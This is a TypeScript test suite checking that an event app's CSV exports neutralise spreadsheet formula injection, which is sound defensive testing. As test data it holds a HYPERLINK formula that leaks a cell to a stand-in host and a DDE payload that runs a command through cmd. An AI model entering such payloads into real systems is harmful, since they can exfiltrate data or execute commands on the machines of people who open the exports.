import { DataSource } from 'typeorm';
import {
  createEvent,
  createOrganisation,
  loginAdmin,
  type Session,
  signup,
} from './support/factories.js';
import { parseCsv } from './support/csv.js';
import { register } from './support/agenda-fixtures.js';
import { startTestApp, type TestApp } from './support/test-app.js';
import { WebClient } from './support/web-client.js';

/*
 * Audit issue 11, item 1: CSV formula injection. A participant types a formula as their
 * name and as their dietary needs; the organisers' spreadsheets (registrations, arrivals,
 * bus list, through the API and the console pages) must show it as text, never run it.
 */
const EVIL_NAME = '=HYPERLINK("http://x?d="&A1,"Click")';
const EVIL_DIETARY = "+cmd|' /C calc'!A0";
const PHONE = '+212 6 61 24 87 30';
const EMERGENCY_PHONE = '+212 6 70 00 00 01';
const PASSWORD = 'a-long-password';

/** Every cell a spreadsheet would run as a formula (OWASP's first characters). */
const formulas = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('security: CSV formula injection (issue 11, item 1)', () => {
  let t: TestApp;
  let admin: Session;
  let organiser: Session;
  let attacker: Session;
  let eventId: string;
  let visitId: string;

  beforeAll(async () => {
    t = await startTestApp('security_csv');
    admin = await loginAdmin(t);
    const org = await createOrganisation(t, admin, { name: '@Maison des Familles', country: 'MA' });
    organiser = await signup(t, { name: 'Nadia Benali', locale: 'fr', password: PASSWORD });
    eventId = (await createEvent(t, admin, { slug: 'csv-injection-2027' })).id;
    await t.app
      .get(DataSource)
      .query(`INSERT INTO event_staff (event_id, account_id, role) VALUES ($1, $2, 'organiser')`, [
        eventId,
        organiser.id,
      ]);
    attacker = await signup(t, { name: EVIL_NAME, organisationId: org.id });
    const registrationId = await register(t, eventId, attacker, org.id, {
      dietary: EVIL_DIETARY,
      phone: PHONE,
      emergencyContact: { name: '-2+3', phone: EMERGENCY_PHONE, relation: '@SUM(1+1)' },
    });
    await t
      .http()
      .put(`/api/registrations/${registrationId}/travel`)
      .set(attacker.auth)
      .send({ arrival: { flightNumber: 'AT571', airport: 'TNG', at: '2027-10-24T13:00' } })
      .expect(200);
    const visit = await t
      .http()
      .post(`/api/events/${eventId}/sessions`)
      .set(admin.auth)
      .send({
        kind: 'site_visit',
        title: '=1+1 Visit: Amal day centre',
        startsAt: '2027-10-28T09:00',
        endsAt: '2027-10-28T12:00',
        status: 'published',
        signupRequired: true,
        siteVisit: {
          hostOrganisationId: org.id,
          address: 'Rue de la Kasbah, Tanger',
          meetingPoint: '@Medina gate',
          departureAt: '2027-10-28T09:10',
          returnAt: '2027-10-28T11:50',
          transport: 'bus',
          seats: 10,
        },
      })
      .expect(201);
    visitId = visit.body.id;
    await t
      .http()
      .post(`/api/sessions/${visitId}/signups`)
      .set(attacker.auth)
      .send({ acceptRules: true })
      .expect(201);
  });
  afterAll(() => t.close());

  const csvOf = async (path: string) => {
    const res = await t.http().get(path).set(admin.auth).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    return res.text;
  };

  /** The file starts with a BOM, holds no live formula, and shows the attacker's text. */
  const expectNeutralised = (text: string, delimiter = ',') => {
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const rows = parseCsv(text.slice(1), delimiter);
    expect(formulas(rows)).toEqual([]);
    expect(rows.flat()).toContain(`'${EVIL_NAME}`);
    return rows;
  };

  it('neutralises the registrations CSV: name, dietary needs, emergency contact; phones keep their digits', async () => {
    const rows = expectNeutralised(await csvOf(`/api/events/${eventId}/registrations?format=csv`));
    const [header, ...data] = rows.filter((r) => r.length > 1);
    const row = data.find((r) => r[header.indexOf('Name')] === `'${EVIL_NAME}`)!;
    expect(row[header.indexOf('Dietary needs')]).toBe(`'${EVIL_DIETARY}`);
    expect(row[header.indexOf('Organisation')]).toBe("'@Maison des Familles");
    expect(row[header.indexOf('Emergency contact')]).toBe("'-2+3");
    expect(row[header.indexOf('Emergency relation')]).toBe("'@SUM(1+1)");
    // The quote makes Excel read the phone as text: its + and every digit stay.
    expect(row[header.indexOf('Phone')]).toBe(`'${PHONE}`);
    expect(row[header.indexOf('Emergency phone')]).toBe(`'${EMERGENCY_PHONE}`);
  });

  it('neutralises the arrivals CSV', async () => {
    const rows = expectNeutralised(await csvOf(`/api/events/${eventId}/arrivals?format=csv`));
    const [header, row] = rows;
    expect(row[header.indexOf('Name')]).toBe(`'${EVIL_NAME}`);
    expect(row[header.indexOf('Organisation')]).toBe("'@Maison des Familles");
    expect(row[header.indexOf('Phone')]).toBe(`'${PHONE}`);
    expect(row[header.indexOf('Flight')]).toBe('AT571');
  });

  it('neutralises the bus list CSV, its title and meeting point included', async () => {
    const rows = expectNeutralised(await csvOf(`/api/sessions/${visitId}/signups?format=csv`));
    expect(rows[0]).toEqual(["'=1+1 Visit: Amal day centre"]);
    expect(rows.flat()).toContain('Meeting point: @Medina gate');
    const at = rows.findIndex((r) => r[0] === 'status');
    const header = rows[at];
    const row = rows[at + 1];
    expect(row[header.indexOf('name')]).toBe(`'${EVIL_NAME}`);
    expect(row[header.indexOf('phone')]).toBe(`'${PHONE}`);
    expect(row[header.indexOf('emergency_contact')]).toBe("'-2+3");
    expect(row[header.indexOf('emergency_phone')]).toBe(`'${EMERGENCY_PHONE}`);
  });

  it('offers a semicolon variant on the API that parses back field by field', async () => {
    for (const path of [
      `/api/events/${eventId}/registrations?format=csv&separator=semicolon`,
      `/api/events/${eventId}/arrivals?format=csv&separator=semicolon`,
      `/api/sessions/${visitId}/signups?format=csv&separator=semicolon`,
    ]) {
      const text = await csvOf(path);
      const rows = expectNeutralised(text, ';');
      // The attacker's commas and quotes stay inside one quoted field.
      expect(text).toContain(`"'=HYPERLINK(""http://x?d=""&A1,""Click"")"`);
      const header = rows.find((r) => r.includes('Name') || r.includes('name'))!;
      expect(header.length).toBeGreaterThan(5);
    }
    const bad = await t
      .http()
      .get(`/api/events/${eventId}/registrations?format=csv&separator=tab`)
      .set(admin.auth)
      .expect(400);
    expect(bad.body).toMatchObject({
      statusCode: 400,
      message: expect.stringMatching(/separator/),
    });
  });

  it("gives the console's French reader semicolons by default, commas when asked, all neutralised", async () => {
    const web = new WebClient(t);
    await web.signIn(organiser.email, PASSWORD);
    const base = `/console/events/${eventId}`;
    const downloads = [
      `${base}/registrations/export.csv`,
      `${base}/arrivals/arrivals.csv`,
      `${base}/agenda/sessions/${visitId}/bus-list.csv`,
    ];
    for (const path of downloads) {
      const res = await web.get(path);
      expect([path, res.status]).toEqual([path, 200]);
      const rows = expectNeutralised(res.text, ';');
      expect(rows.some((r) => r.length > 5)).toBe(true);
      const comma = await web.get(`${path}?separator=comma`);
      expect(comma.status).toBe(200);
      expect(parseCsv(comma.text.slice(1)).some((r) => r.length > 5)).toBe(true);
      expectNeutralised(comma.text);
    }
  });
});
